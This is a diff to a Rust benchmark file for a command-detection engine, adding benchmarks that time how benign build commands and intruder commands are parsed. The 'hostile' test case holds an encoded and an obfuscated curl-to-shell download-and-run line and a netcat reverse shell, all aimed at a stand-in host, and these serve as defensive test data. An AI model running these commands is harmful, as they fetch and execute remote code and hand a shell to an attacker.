@@ -4,7 +4,7 @@
 use std::{fs, path::Path, sync::Arc};
 
 use divan::{Bencher, counter::BytesCount, counter::ItemsCount};
-use minesweep_detect::{Engine, Rules, Settings, clues};
+use minesweep_detect::{Engine, Rules, Settings, clues, commands};
 use minesweep_model::{
     ClueSource, CpuSample, Event, Process, ProcessCpu, ProcessKey, Role, Rounding, Said, Utterance, What,
 };
@@ -16,7 +16,8 @@ fn main() {
 fn rules() -> Arc<Rules> {
     let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content");
     let mut files = Vec::new();
-    for folder in fs::read_dir(root).unwrap().map(|entry| entry.unwrap().path()).filter(|path| path.is_dir()) {
+    for folder in fs::read_dir(root).unwrap().map(|entry| entry.unwrap().path()).filter(|path| path.is_dir())
+    {
         for entry in fs::read_dir(&folder).unwrap() {
             let path = entry.unwrap().path();
             let name = [&folder, &path].map(|path| path.file_name().unwrap().to_string_lossy()).join("/");
@@ -104,4 +105,37 @@ fn scan_file(bencher: Bencher) {
     let rules = rules();
     let bytes = fs::read(std::env::current_exe().unwrap()).unwrap();
     bencher.counter(BytesCount::new(bytes.len())).bench(|| rules.files().scan(divan::black_box(&bytes)));
+}
+
+/// Command lines as a build machine and an intruder write them, understood one by one.
+#[divan::bench(args = [0, 1, 2])]
+fn understood_commands(bencher: Bencher<'_, '_>, kind: usize) {
+    let words = |text: &str| text.split(' ').map(str::to_owned).collect::<Vec<_>>();
+    let shell = |text: &str| vec!["sh".to_owned(), "-c".to_owned(), text.to_owned()];
+    let compiler: Vec<String> = std::iter::once("cc1".to_owned())
+        .chain((0..20).map(|word| format!("-I/usr/include/some/path/{word}")))
+        .collect();
+    let lines = match kind {
+        0 => vec![compiler],
+        1 => vec![
+            shell("cd /srv/app && ./run --port 80 > /var/log/app 2>&1 || exit 1"),
+            words("git commit -m message"),
+            shell("test -f /etc/x && . /etc/x; for i in a b c; do echo \"$i\"; done | sort"),
+        ],
+        _hostile => vec![
+            shell("echo Y3VybCAyMDMuMC4xMTMuOS9hIHwgc2g= | base64 -d | sh"),
+            shell("a=cu;b=rl;$a$b$IFS-s${IFS}203.0.113.9/a|'s''h'"),
+            shell("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 44 >/tmp/f"),
+        ],
+    };
+    bencher
+        .counter(ItemsCount::new(lines.len()))
+        .bench(|| lines.iter().map(|argv| commands::understand(argv).found.len()).sum::<usize>());
+}
+
+/// Text made to be slow, 60 KiB.
+#[divan::bench(args = ["$(", "`", "{a,", "a=$a$a;", "eval ", "\"$("])]
+fn hostile_command(bencher: Bencher<'_, '_>, piece: &str) {
+    let text = piece.repeat(60_000 / piece.len());
+    bencher.counter(BytesCount::new(text.len())).bench(|| commands::understand_text(&text).found.len());
 }
